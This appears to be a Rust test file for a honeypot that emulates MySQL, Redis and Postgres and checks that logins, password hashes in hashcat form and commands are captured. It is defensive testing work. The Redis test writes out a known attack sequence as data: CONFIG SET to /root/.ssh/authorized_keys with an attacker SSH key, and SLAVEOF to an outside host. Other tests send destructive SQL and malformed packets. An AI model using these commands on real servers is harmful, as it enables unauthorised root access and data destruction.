//! Issue 6: database and infrastructure services driven by real client
//! crates (mysql_async, redis, tokio-postgres, ldap3, rumqttc) and by raw
//! official wire formats where no light client exists; every test asserts
//! the captured events.

mod db_common;

use std::time::Duration;

use db_common::{deploy, s};
use decnet_core::EventKind;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

// ---------------------------------------------------------------- mysql

#[tokio::test]
async fn mysql_native_password_captured_in_hashcat_form_and_denied() {
    let mut env = deploy("127.0.63.10", "services = mysql\ndistro = debian\n").await;
    let url = format!("mysql://root:hunter2@{}/shop", env.addr(3306));
    let err = mysql_async::Conn::from_url(url)
        .await
        .expect_err("login must fail");
    let msg = err.to_string();
    assert!(
        msg.contains("Access denied for user 'root'@'127.0.0.1' (using password: YES)"),
        "{msg}"
    );
    let e = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&e, "username"), "root");
    assert_eq!(s(&e, "secret_kind"), "mysql_native_password");
    assert_eq!(s(&e, "database"), "shop");
    assert_eq!(e.fields["success"], false);
    // The capture is usable: the response is the scramble of the real
    // password over the captured salt, and the hashcat line says so.
    let salt = hex::decode(s(&e, "salt")).unwrap();
    let resp = hex::decode(s(&e, "response")).unwrap();
    assert_eq!(salt.len(), 20);
    assert_eq!(
        resp,
        decnet_services::wire::mysql::native_scramble(b"hunter2", &salt)
    );
    assert_eq!(
        s(&e, "hashcat"),
        format!("$mysqlna${}*{}", hex::encode(&salt), hex::encode(&resp))
    );
    env.stop().await;
}

#[tokio::test]
async fn mysql_configured_login_succeeds_and_queries_are_logged() {
    use mysql_async::prelude::*;
    // Ubuntu persona: MySQL 8 with caching_sha2_password by default.
    let mut env = deploy(
        "127.0.63.11",
        "services = mysql\ndistro = ubuntu22\n[t.mysql]\nuser = app\npassword = s3cret\n",
    )
    .await;
    let url = format!("mysql://app:s3cret@{}/", env.addr(3306));
    let mut conn = mysql_async::Conn::from_url(url)
        .await
        .expect("configured login works");
    let v: Option<String> = conn.query_first("SELECT @@version").await.unwrap();
    assert_eq!(v.as_deref(), Some("8.0.36-0ubuntu0.22.04.1"));
    let dbs: Vec<String> = conn.query("SHOW DATABASES").await.unwrap();
    assert!(dbs.contains(&"mysql".to_owned()), "{dbs:?}");
    conn.query_drop("DROP TABLE users").await.unwrap();
    conn.disconnect().await.unwrap();

    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "secret_kind"), "caching_sha2_password");
    assert_eq!(a.fields["success"], true);
    let mut cmds = Vec::new();
    for ev in env.drain(Duration::from_millis(500)).await {
        if ev.kind == EventKind::Command {
            cmds.push(s(&ev, "command").to_owned());
        }
    }
    assert!(cmds.iter().any(|c| c == "SELECT @@version"), "{cmds:?}");
    assert!(cmds.iter().any(|c| c == "DROP TABLE users"), "{cmds:?}");
    env.stop().await;
}

#[tokio::test]
async fn mysql_oversized_packet_is_an_error_event_not_a_crash() {
    let mut env = deploy("127.0.63.12", "services = mysql\n").await;
    let mut c = TcpStream::connect(env.addr(3306)).await.unwrap();
    let mut greet = [0u8; 256];
    let n = c.read(&mut greet).await.unwrap();
    assert!(n > 40 && greet[4] == 10, "handshake v10 expected");
    // Header announcing a 16 MiB packet.
    c.write_all(&[0xff, 0xff, 0xff, 1]).await.unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").contains("over limit"), "{:?}", e.fields);
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), c.read_to_end(&mut rest)).await;
    assert_eq!(rest.get(4), Some(&0xff), "ERR packet before close");
    // The service still answers.
    let mut c2 = TcpStream::connect(env.addr(3306)).await.unwrap();
    assert!(c2.read(&mut greet).await.unwrap() > 40);
    env.stop().await;
}

// ---------------------------------------------------------------- redis

#[tokio::test]
async fn redis_requirepass_noauth_wrongpass_and_exploit_commands() {
    let mut env = deploy(
        "127.0.63.13",
        "services = redis\ndistro = debian\n[t.redis]\npassword = foobared\n",
    )
    .await;
    let addr = env.addr(6379);
    // No AUTH: NOAUTH like requirepass.
    let client = redis::Client::open(format!("redis://{addr}/")).unwrap();
    let mut c = client.get_multiplexed_async_connection().await.unwrap();
    let err = redis::cmd("PING")
        .query_async::<String>(&mut c)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("Authentication required"), "{err}");

    // Wrong password: refused, captured.
    let bad = redis::Client::open(format!("redis://:letmein@{addr}/")).unwrap();
    let Err(err) = bad.get_multiplexed_async_connection().await else {
        panic!("wrong password refused")
    };
    assert!(
        err.to_string()
            .to_lowercase()
            .contains("authentication failed"),
        "{err}"
    );
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(
        (s(&a, "username"), s(&a, "password")),
        ("default", "letmein")
    );
    assert_eq!(a.fields["success"], false);

    // Right password: the classic webshell/ssh-key write is recorded.
    let good = redis::Client::open(format!("redis://:foobared@{addr}/")).unwrap();
    let mut c = good.get_multiplexed_async_connection().await.unwrap();
    let ok = env.next(EventKind::AuthAttempt).await;
    assert_eq!(ok.fields["success"], true);
    let info: String = redis::cmd("INFO")
        .arg("server")
        .query_async(&mut c)
        .await
        .unwrap();
    assert!(info.contains("redis_version:7.0.15"), "{info}");
    let _: () = redis::cmd("CONFIG")
        .arg("SET")
        .arg("dir")
        .arg("/root/.ssh")
        .query_async(&mut c)
        .await
        .unwrap();
    let _: () = redis::cmd("CONFIG")
        .arg("SET")
        .arg("dbfilename")
        .arg("authorized_keys")
        .query_async(&mut c)
        .await
        .unwrap();
    let dir: Vec<String> = redis::cmd("CONFIG")
        .arg("GET")
        .arg("dir")
        .query_async(&mut c)
        .await
        .unwrap();
    assert_eq!(dir, vec!["dir".to_owned(), "/root/.ssh".to_owned()]);
    let _: () = redis::cmd("SET")
        .arg("x")
        .arg("ssh-rsa AAAA attacker")
        .query_async(&mut c)
        .await
        .unwrap();
    let x: String = redis::cmd("GET")
        .arg("x")
        .query_async(&mut c)
        .await
        .unwrap();
    assert_eq!(x, "ssh-rsa AAAA attacker");
    let _: () = redis::cmd("SLAVEOF")
        .arg("10.9.9.9")
        .arg("8888")
        .query_async(&mut c)
        .await
        .unwrap();
    let keys: Vec<String> = redis::cmd("KEYS")
        .arg("session:*")
        .query_async(&mut c)
        .await
        .unwrap();
    assert_eq!(keys.len(), 2, "{keys:?}");

    let mut tags = Vec::new();
    for ev in env.drain(Duration::from_millis(500)).await {
        if ev.kind == EventKind::Command {
            if let Some(t) = ev.fields.get("exploit").and_then(|v| v.as_str()) {
                tags.push(t.to_owned());
            }
        }
    }
    for want in [
        "config_set_dir",
        "config_set_dbfilename",
        "rogue_replication",
    ] {
        assert!(
            tags.iter().any(|t| t == want),
            "{want} missing from {tags:?}"
        );
    }
    env.stop().await;
}

#[tokio::test]
async fn redis_without_password_needs_no_auth_and_closes_on_garbage() {
    let mut env = deploy("127.0.63.14", "services = redis\n").await;
    let client = redis::Client::open(format!("redis://{}/", env.addr(6379))).unwrap();
    let mut c = client.get_multiplexed_async_connection().await.unwrap();
    let pong: String = redis::cmd("PING").query_async(&mut c).await.unwrap();
    assert_eq!(pong, "PONG");
    let n: i64 = redis::cmd("DBSIZE").query_async(&mut c).await.unwrap();
    assert!(n >= 5);
    // Garbage multibulk: protocol error, error event, connection closed.
    let mut raw = TcpStream::connect(env.addr(6379)).await.unwrap();
    raw.write_all(b"*2\r\n$99999999999\r\n").await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut out)).await;
    assert!(
        String::from_utf8_lossy(&out).starts_with("-ERR Protocol error"),
        "{out:?}"
    );
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").contains("protocol error"));
    env.stop().await;
}

// ---------------------------------------------------------------- postgres

async fn pg_connect(
    addr: &str,
    user: &str,
    pw: &str,
) -> Result<tokio_postgres::Client, tokio_postgres::Error> {
    let (host, port) = addr.split_once(':').unwrap();
    let cfg =
        format!("host={host} port={port} user={user} password={pw} dbname=crm connect_timeout=5");
    let (client, conn) = tokio_postgres::connect(&cfg, tokio_postgres::NoTls).await?;
    tokio::spawn(conn);
    Ok(client)
}

#[tokio::test]
async fn postgres_scram_captured_and_exact_error_text() {
    let mut env = deploy(
        "127.0.63.15",
        "services = postgres\ndistro = debian\n[t.postgres]\npassword = Pg-Pass1\n",
    )
    .await;
    let Err(err) = pg_connect(&env.addr(5432), "postgres", "wrong").await else {
        panic!("refused")
    };
    let db = err.as_db_error().expect("server error");
    assert_eq!(
        db.message(),
        "password authentication failed for user \"postgres\""
    );
    assert_eq!(db.code().code(), "28P01");
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "secret_kind"), "postgres_scram_sha256");
    assert_eq!(s(&a, "username"), "postgres");
    assert_eq!(s(&a, "database"), "crm");
    assert_eq!(a.fields["iterations"], 4096);
    assert!(s(&a, "nonce").starts_with(s(&a, "client_nonce")));
    assert!(!s(&a, "proof").is_empty());
    assert_eq!(a.fields["success"], false);

    let client = pg_connect(&env.addr(5432), "postgres", "Pg-Pass1")
        .await
        .expect("configured login");
    let rows = client.simple_query("select version()").await.unwrap();
    let v = rows.iter().find_map(|m| match m {
        tokio_postgres::SimpleQueryMessage::Row(r) => r.get(0).map(str::to_owned),
        _ => None,
    });
    assert!(v.unwrap().starts_with("PostgreSQL 15.6"));
    client.simple_query("DROP DATABASE crm").await.unwrap();
    let ok = env.next(EventKind::AuthAttempt).await;
    assert_eq!(ok.fields["success"], true);
    let c1 = env.next(EventKind::Command).await;
    assert_eq!(s(&c1, "command"), "select version()");
    let c2 = env.next(EventKind::Command).await;
    assert_eq!(s(&c2, "command"), "DROP DATABASE crm");
    env.stop().await;
}

#[tokio::test]
async fn postgres_md5_captured_as_hashcat_11100() {
    let mut env = deploy(
        "127.0.63.16",
        "services = postgres\n[t.postgres]\nauth = md5\npassword = other\n",
    )
    .await;
    let Err(err) = pg_connect(&env.addr(5432), "admin", "Summer2024").await else {
        panic!("refused")
    };
    let db = err.as_db_error().expect("server error");
    assert_eq!(
        db.message(),
        "password authentication failed for user \"admin\""
    );
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "secret_kind"), "postgres_md5");
    let salt: [u8; 4] = hex::decode(s(&a, "salt")).unwrap().try_into().unwrap();
    let expect = decnet_services::wire::pg::md5_response("admin", "Summer2024", &salt);
    assert_eq!(s(&a, "response"), expect);
    assert_eq!(
        s(&a, "hashcat"),
        format!("$postgres$admin*{}*{}", hex::encode(salt), &expect[3..])
    );
    // Garbage startup length: error event, no crash.
    let mut raw = TcpStream::connect(env.addr(5432)).await.unwrap();
    raw.write_all(&[0x7f, 0xff, 0xff, 0xff, 0, 3, 0, 0])
        .await
        .unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(
        s(&e, "error").contains("invalid length of startup packet"),
        "{:?}",
        e.fields
    );
    env.stop().await;
}
